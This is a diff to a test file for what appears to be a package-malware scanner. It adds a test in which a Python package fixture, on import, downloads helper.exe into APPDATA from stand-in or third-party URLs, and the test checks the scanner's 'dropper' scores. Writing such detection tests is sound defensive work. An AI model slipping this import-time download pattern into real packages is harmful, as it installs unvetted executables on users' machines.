@@ -620,3 +620,22 @@ test('a Windows program out of the sources of a stranger is told from one of the
   expect(await of('https://github.com/stranger/tools/releases/download/1/helper.exe')).toMatchObject([{ score: 9 }]);
   expect(await of('https://github.com/example/pkg/raw/main/helper.exe')).toMatchObject([{ score: 9 }]);
 });
+
+test('a Windows program that an import fetches is told by whether the project speaks of where it comes from', async () => {
+  const of = (address: string): Promise<readonly Finding[]> =>
+    inspect(
+      'dropper',
+      wheel({
+        'pkg/__init__.py': python(
+          'import os, urllib.request',
+          "path = os.path.join(os.environ['APPDATA'], 'helper.exe')",
+          `urllib.request.urlretrieve('${address}', path)`,
+        ),
+      }),
+    );
+
+  expect(await of('https://downloads.metrics.invalid/helper.exe')).toMatchObject([{ score: 10, context: 'import' }]);
+  expect(await of('https://github.com/stranger/tools/raw/main/helper.exe')).toMatchObject([{ score: 10 }]);
+  expect(await of('https://files.pkg.readthedocs.io/helper.exe')).toMatchObject([{ score: 6 }]);
+  expect(await of('https://github.com/stranger/tools/releases/download/1/helper.exe')).toMatchObject([{ score: 6 }]);
+});
